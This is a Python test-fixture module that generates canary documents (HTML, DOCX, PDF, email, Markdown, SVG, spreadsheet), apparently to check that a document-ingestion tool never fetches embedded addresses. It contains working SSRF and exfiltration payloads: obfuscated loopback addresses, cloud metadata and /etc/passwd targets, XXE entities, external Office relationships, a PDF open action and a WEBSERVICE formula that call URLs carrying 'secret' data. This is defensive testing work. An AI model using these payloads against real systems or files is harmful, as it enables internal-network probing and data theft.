"""Addresses in every form that leads to one port of this machine, and files that name one wherever a format lets them.

Nobody who only reads has a reason to call any of them.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from email.message import EmailMessage

import openpyxl

from tests.ingest import files
from tests.prove.hostile_files import _SAID as _SAID_IN_PDF
from tests.prove.hostile_files import _a_page

_SAID = "Turen varer to timer, og den slutter i gården."
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def addresses(port: int) -> tuple[str, ...]:
    """Of the port, of a machine that clouds have inside, and of files."""
    hosts = (
        "127.0.0.1", "localhost", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.0.1.", "[::1]",
        "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "0.0.0.0", "canary.example", "127.0.0.1.canary.example",
        "ope.example@127.0.0.1", "１２７.0.0.1",
    )  # fmt: skip
    web = tuple(f"http://{host}:{port}/taken?d=secret" for host in hosts)
    other = (f"https://127.0.0.1:{port}/", f"ftp://127.0.0.1:{port}/x", f"gopher://127.0.0.1:{port}/_x")
    inside = ("http://169.254.169.254/latest/meta-data/", "http://[fe80::1]/", "http://10.0.0.8/", "file:///etc/passwd")
    return (*web, *other, f"//127.0.0.1:{port}/x", f"\\\\127.0.0.1@{port}\\share\\x", *inside)


#: How a text makes a program fetch an address that only shows it.
WAYS: tuple[Callable[[str], str], ...] = (
    lambda url: url,
    lambda url: f"![map]({url})",
    lambda url: f"[the programme]({url})",
    lambda url: f'<img src="{url}"><link rel="stylesheet" href="{url}">',
    lambda url: f'<style>@import url("{url}"); p {{ background: url({url}) }}</style>',
    lambda url: (
        f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{url}"/><use href="{url}#x"/></svg>'
    ),
    lambda url: f'<iframe src="{url}"></iframe><meta http-equiv="refresh" content="0; url={url}">',
    lambda url: f'<!DOCTYPE x [<!ENTITY % d SYSTEM "{url}"> %d;]><x>&e;</x>',
    lambda url: f"#image(\"{url}\") {{{{ fetch('{url}') }}}}",
)


def documents(url: str) -> Iterator[tuple[str, bytes]]:
    """Names and bytes."""
    yield "calls.html", _page(url)
    yield "calls.docx", _word(url)
    yield "calls.pdf", _pdf(url)
    yield "calls.eml", mail(url)
    yield "calls.md", "\n\n".join((f"# Besøg\n\n{_SAID}", *(way(url) for way in WAYS))).encode()
    yield "calls.svg", WAYS[5](url).encode()
    yield "calls.xlsx", _workbook(url)


def mail(url: str, *, number: int = 0) -> bytes:
    message = EmailMessage()
    message["Subject"] = f"Besøg {url}"[:200].replace("\n", " ")
    message["From"] = "gruppe@skole.example"
    message["Date"] = "Tue, 03 Mar 2026 09:00:00 +0100"
    message["Message-ID"] = f"<calls-{number}@skole.example>"
    message["List-Unsubscribe"] = f"<{url}>"
    message["Disposition-Notification-To"] = "kim@canary.example"
    message.set_content(f"{_SAID} {url}")
    message.add_alternative(_page(url).decode(), subtype="html")
    return bytes(message)


def _page(url: str) -> bytes:
    ways = "".join(f"<p>{way(url)}</p>" for way in WAYS)
    head = f'<base href="{url}"><script src="{url}"></script><link rel="prefetch" href="{url}">'
    return (
        f"<!doctype html><html><head><title>Besøg</title>{head}</head><body><p>{_SAID}</p>{ways}</body></html>".encode()
    )


def _word(url: str) -> bytes:
    called = f'<!DOCTYPE x [<!ENTITY % d SYSTEM "{url}"> %d;]>'
    kinds = ("attachedTemplate", "image", "hyperlink", "oleObject", "frame", "subDocument")
    relations = "".join(
        f'<Relationship Id="c{n}" Type="{_RELATION}/{kind}" Target="{url}" TargetMode="External"/>'
        for n, kind in enumerate(kinds)
    )
    return _with_parts(
        files.a_docx(),
        {
            "word/_rels/document.xml.rels": lambda part: part.replace(
                "</Relationships>", relations + "</Relationships>"
            ),
            "word/settings.xml": lambda part: part.replace("<w:settings", f"{called}<w:settings", 1),
        },
    )


def _pdf(url: str) -> bytes:
    """With what a viewer would do on opening and closing it."""
    action = f"/OpenAction <</S /URI /URI ({url})>> /AA <</WC <</S /SubmitForm /F ({url})>>>>"
    return _a_page(_SAID_IN_PDF, catalogue=action.encode())


def _workbook(url: str) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Land", f'=WEBSERVICE("{url}")', f'=HYPERLINK("{url}")', f"='[{url}]Ark1'!A1"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _with_parts(document: bytes, changes: dict[str, Callable[[str], str]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = old.read(name)
            new.writestr(name, changes[name](part.decode()).encode() if name in changes else part)
    return out.getvalue()
